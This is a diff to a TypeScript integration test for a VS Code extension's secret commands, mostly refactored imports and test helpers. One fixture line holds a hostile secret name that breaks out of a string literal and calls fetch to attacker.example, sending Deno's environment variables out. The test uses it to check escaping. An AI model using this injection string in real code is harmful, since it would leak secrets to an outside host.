@@ -4,15 +4,19 @@ import { tmpdir } from 'node:os';
 import * as path from 'node:path';
 import * as vscode from 'vscode';
 import type { FluxbaseClient } from '../../src/core/api/fluxbaseClient';
-import type { CatalogEntry, SecretCatalog } from '../../src/core/code/secretCatalog';
+import type { CatalogEntry, SecretCatalog } from '../../src/core/explorer/secretCatalog';
 import { UnwritableNameError } from '../../src/core/code/secretNameWriter';
 import { findStringLiterals } from '../../src/core/code/stringLiterals';
-import { silentLogger } from '../../src/core/logger';
+import { silentLogger } from '../../src/shared/logger';
 import { secretVariableName } from '../../src/core/secretVariable';
-import type { PickItem, UserInput } from '../../src/core/userInput';
+import type { UserInput } from '../../src/core/userInput';
+import { parseCommandArgument } from '../../src/core/commandArgument';
 import type { CreateSecretPrefill } from '../../src/core/commands/createSecret';
-import { extractToSecret } from '../../src/host/code/extractToSecret';
-import { insertReference } from '../../src/host/code/insertReference';
+import { extractToSecretCommand, type CreateSecretFlow } from '../../src/core/commands/extractToSecret';
+import { insertReferenceCommand } from '../../src/core/commands/insertReference';
+import type { Logger } from '../../src/shared/logger';
+import { vscodeEditorPort } from '../../src/host/code/editorPorts';
+import { pick, ScriptedUserInput } from '../unit/commands/support/scriptedUserInput';
 import { eventually } from './support/eventually';
 import { startLocalFluxbase, type LocalFluxbase } from './support/localFluxbase';
 
@@ -21,20 +25,21 @@ const CONNECTION_ID = 'code-commands-it';
 /** A name a hostile server can give a secret: written unescaped, it sends the function's environment away. */
 const HOSTILE_NAME = 'X" + (fetch("https://attacker.example/?" + JSON.stringify(Deno.env.toObject())), "") + "';
 
-/** Answers every pick with the item labelled `label`; any other question fails the test. */
-function pickingInput(label: string): UserInput & { asked: string[][] } {
-  const asked: string[][] = [];
-  return {
-    asked,
-    inputText: async () => assert.fail('unexpected text box'),
-    choose: async () => assert.fail('unexpected modal'),
-    pick: async <T>(items: readonly PickItem<T>[]) => {
-      asked.push(items.map((i) => i.label));
-      const item = items.find((i) => i.label === label);
-      assert.ok(item, `no item ${label}`);
-      return item.value;
-    },
-  };
+/** Answers the pick with the item labelled `label`; any other question fails the test (the one scripted double). */
+function pickingInput(label: string): ScriptedUserInput {
+  return new ScriptedUserInput([pick(/(?:)/, label)]);
+}
+
+/** Extract as the command table builds it, over VS Code's editors, given what VS Code would pass. */
+function extractToSecret(deps: { logger: Logger; createSecret: CreateSecretFlow }) {
+  const command = extractToSecretCommand({ logger: deps.logger, editor: vscodeEditorPort }, deps.createSecret);
+  return (arg?: unknown) => command(parseCommandArgument(arg));
+}
+
+/** Insert as the command table builds it, over VS Code's editors, given what VS Code would pass. */
+function insertReference(deps: { catalog: SecretCatalog; input: UserInput }) {
+  const command = insertReferenceCommand({ ...deps, editor: vscodeEditorPort });
+  return (arg?: unknown) => command(parseCommandArgument(arg));
 }
 
 const editorFolder = mkdtempSync(path.join(tmpdir(), 'fluxbase-code-commands-files-'));
@@ -165,7 +170,10 @@ describe('code feature commands in VS Code, against the local server', () => {
     editor.selection = new vscode.Selection(1, 0, 1, 0);
     const input = pickingInput('FLUXBASE_SECRET_PICKED');
     await insertReference({ catalog: withSecret, input })();
-    assert.deepEqual(input.asked, [['FLUXBASE_SECRET_PICKED']]);
+    assert.deepEqual(
+      input.questions.map((question) => question.labels),
+      [['FLUXBASE_SECRET_PICKED']],
+    );
     assert.match(editor.document.getText(), /\nDeno\.env\.get\("FLUXBASE_SECRET_PICKED"\)$/);
   });
 
